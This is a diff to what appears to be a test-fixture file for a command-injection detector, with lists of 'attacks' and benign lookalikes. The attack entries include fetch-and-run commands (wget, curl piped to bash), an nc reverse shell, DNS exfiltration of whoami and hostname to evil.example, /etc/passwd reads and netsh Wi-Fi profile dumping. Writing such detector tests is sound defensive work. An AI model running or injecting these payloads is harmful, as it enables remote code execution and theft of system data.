@@ -134,6 +134,16 @@ export const attacks: readonly string[] = [
   'the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again $(wget http://x.example/s.sh) the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again ',
   'the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again `curl http://x.example/s.sh | bash` the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again ',
   'the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again the quick brown fox jumped over the lazy dog and went home again | nc -e /bin/sh 10.0.0.1 44 the quick brown fox jumped over the lazy dog and went home again ',
+  ';dig `whoami`.evil.example',
+  'ping `whoami`.evil.example',
+  '8.8.8.8;host `hostname`.evil.example',
+  ';cut -d: -f1 /etc/passwd',
+  '&wmic process call create calc',
+  '&sc query',
+  '&netsh wlan show profiles',
+  ';powershell iwr evil.example -o x',
+  "8.8.8.8;$'cat\\x20/etc/passwd'",
+  'ls /',
 ]
 
 export const harmless: readonly string[] = [
@@ -270,6 +280,11 @@ export const harmless: readonly string[] = [
   '\\date{2024}',
   '/users/[id]/posts',
   '#!/bin/bash\nset -euo pipefail\nfor f in *.txt; do\n  sort "$f" | uniq -c\ndone\n',
+  'Ask; dig `deep` into the `docs`',
+  'see `Array`.prototype and `process`.env',
+  'sc; query planner',
+  'reg. add-ons; sc queries',
+  "the cost is $5 or $'10",
 ]
 
 /** What a hostile text repeats. */
